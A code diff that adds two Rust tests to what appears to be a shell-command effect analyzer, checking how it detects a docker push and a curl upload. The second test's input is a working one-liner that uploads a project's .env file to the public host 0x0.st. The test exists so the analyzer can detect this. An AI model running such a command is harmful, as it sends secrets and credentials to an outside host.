@@ -339,3 +339,28 @@ fn globbed_command_names_run_the_program_they_match() {
         ]),
     )]);
 }
+
+#[test]
+fn a_variable_holding_a_substitution_keeps_its_known_text() {
+    // The registry's host is known, though the tag is not.
+    let pushed = effects(
+        r#"tag="registry.fbk.internal/ledger/api:$(git rev-parse --short HEAD)"; docker push "$tag""#,
+    );
+    assert_eq!(pushed.len(), 1);
+    assert_eq!(pushed[0]["target"]["host"], "registry.fbk.internal");
+    assert_eq!(pushed[0]["method"], "UPLOAD");
+}
+
+#[test]
+fn a_required_positional_argument_is_the_argument() {
+    // `${1:?usage}` is `$1` when the function was given one.
+    check(
+        r#"share() { curl -sS -F "file=@${1:?usage: share FILE}" https://0x0.st; }; share .env"#,
+        json!([url_request(
+            "curl",
+            "https://0x0.st",
+            "POST",
+            payload(&[], &[(&at(".env"), false)], &[])
+        )]),
+    );
+}
